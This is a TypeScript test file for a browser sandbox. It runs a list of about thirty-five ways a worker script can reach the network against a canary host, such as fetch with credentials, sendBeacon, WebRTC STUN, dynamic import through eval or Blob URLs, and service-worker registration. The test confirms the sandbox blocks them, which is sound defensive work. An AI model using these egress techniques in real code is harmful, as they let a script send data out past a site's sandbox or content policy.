// Scripts that try to reach anything but their own worker. The oracle is a canary: a server that must
// not be asked, and the browser's own log of its network, in which its name must not stand, not even
// as a name that was looked up.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { frameDocument } from '@castellan/sdk/browser-sandbox';
import type { Page } from 'puppeteer-core';
import { watch, type Watched } from './canary.support.ts';
import { openPage, runIn, serveSandbox, type Site } from './page.support.ts';
import { until } from '../shared/until.support.ts';

/** Ways out of a worker. `HOST` is the canary: a host with a port, with a name for each attempt. */
const ways: Readonly<Record<string, string>> = {
  fetch: 'fetch("http://HOST/")',
  'fetch-blind':
    'fetch("http://HOST/", { mode: "no-cors", method: "POST", body: "x", keepalive: true })',
  request: 'fetch(new Request("http://HOST/", { redirect: "follow", credentials: "include" }))',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", "http://HOST/"); x.send()',
  'xhr-waiting': 'const x = new XMLHttpRequest(); x.open("GET", "http://HOST/", false); x.send()',
  socket: 'new WebSocket("ws://HOST/")',
  'socket-stream': 'new WebSocketStream("ws://HOST/")',
  events: 'new EventSource("http://HOST/")',
  transport: 'new WebTransport("https://HOST/")',
  'import-scripts': 'importScripts("http://HOST/")',
  import: 'import("http://HOST/")',
  'import-made': 'new Function("return import(\'http://HOST/\')")()',
  'import-evaluated': '(0, eval)("import(\'http://HOST/\')")',
  'import-later': 'setTimeout("import(\'http://HOST/\')", 0)',
  'import-by-module':
    'import(URL.createObjectURL(new Blob(["import \'http://HOST/\'"], { type: "text/javascript" })))',
  'import-data': 'import("data:text/javascript,import(\'http://HOST/\')")',
  worker: 'new Worker("http://HOST/")',
  'worker-made': 'new Worker(URL.createObjectURL(new Blob(["fetch(\'http://HOST/\')"])))',
  'worker-module':
    'new Worker(URL.createObjectURL(new Blob(["import \'http://HOST/\'"])), { type: "module" })',
  'shared-worker': 'new SharedWorker("http://HOST/")',
  'service-worker': 'navigator.serviceWorker.register("http://HOST/")',
  font: 'const f = new FontFace("f", "url(http://HOST/)"); self.fonts.add(f); f.load()',
  cache: 'caches.open("c").then((c) => c.add("http://HOST/"))',
  wasm: 'WebAssembly.compileStreaming(fetch("http://HOST/"))',
  filter:
    'const c = new OffscreenCanvas(1, 1).getContext("2d"); c.filter = "url(http://HOST/#f)"; c.fillRect(0, 0, 1, 1)',
  beacon: 'navigator.sendBeacon("http://HOST/", "x")',
  peer: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }).createDataChannel("c")',
  navigate: 'location.href = "http://HOST/"',
  'navigate-frame': 'parent.location = "http://HOST/"; top.location = "http://HOST/"',
  open: 'open("http://HOST/")',
  image: 'new Image().src = "http://HOST/"',
  prefetch:
    'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "http://HOST/"; document.head.append(l)',
  speculation: 'document.write("<script type=speculationrules>{}</script><img src=http://HOST/>")',
  message: 'postMessage({ go: "http://HOST/" }); self.parent?.postMessage("http://HOST/", "*")',
  notification: 'new Notification("n", { icon: "http://HOST/" })',
};

/** What a worker has no name for: it has no document. */
const inDocumentsOnly =
  'shared-worker service-worker beacon peer navigate navigate-frame open image prefetch speculation message notification filter cache'.split(
    ' ',
  );
/** What browsers refuse in a frame without an origin, or what needs a server that the canary is not. */
const needMore = ['transport', 'worker', 'worker-module'];

let site: Site;
let watched: Watched;
let page: Page;
before(async () => {
  const open = frameDocument.replace(/<meta http-equiv[^>]*>/, '');
  site = await serveSandbox({ files: { '/frame.html': frameDocument, '/open.html': open } });
  watched = await watch();
  page = await openPage(watched.browser, site);
});
after(async () => {
  await watched.close();
  await site[Symbol.asyncDispose]();
});

/** Tries a way, and takes what its last statement gives or throws. */
const attempt = (way: string, name: string): string => {
  const returning = way.replace(/(?:^|; )(?!.*; )/, '$&return ');
  return `(async () => { ${returning.replaceAll('HOST', watched.address(name))} })().catch(() => {});`;
};

test('a script reaches nothing, by its own names or by all that a browser has', async () => {
  const sources = Object.entries(ways);
  const asScripts = sources.map(([name, way]) => attempt(way, `script-${name}`)).join('\n');
  // With time for whatever is asked for to be on its way.
  const run = await runIn(page, `${asScripts}\nsetTimeout(() => {}, 300); 1`);
  assert.deepEqual([run.reason, run.value], [null, 1]);
  // Without our program: a worker that has all names, and the frame's policy alone around it.
  const asWorkers = sources.map(([name, way]) => attempt(way, `policy-${name}`)).join('\n');
  await inRawWorker(page, '/frame.html', asWorkers);
  // Without a policy too: now each way is open that workers have.
  const open = sources.map(([name, way]) => attempt(way, `open-${name}`)).join('\n');
  await inRawWorker(page, '/open.html', open);
  const expected = Object.keys(ways)
    .filter((name) => !inDocumentsOnly.includes(name) && !needMore.includes(name))
    .map((name) => `open-${name}`);
  for (const name of expected) await until(`${name} is seen`, () => watched.isSeen(name), 10_000);
  const names = await watched.close();
  assert.deepEqual(
    names.filter((name) => !name.startsWith('open-')),
    [],
  );
});

/** Runs code in a worker of a frame as it is: what the frame's document would do with our program. */
async function inRawWorker(of: Page, address: string, code: string): Promise<void> {
  const told = `${code}\nonmessage = ({ ports: [port] }) => setTimeout(() => port.postMessage(1), 300)`;
  await of.evaluate(`new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.src = ${JSON.stringify(address)};
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = resolve;
    frame.onload = () => frame.contentWindow.postMessage(${JSON.stringify(told)}, '*', [port2]);
    document.body.append(frame);
  }).then(() => undefined)`);
}
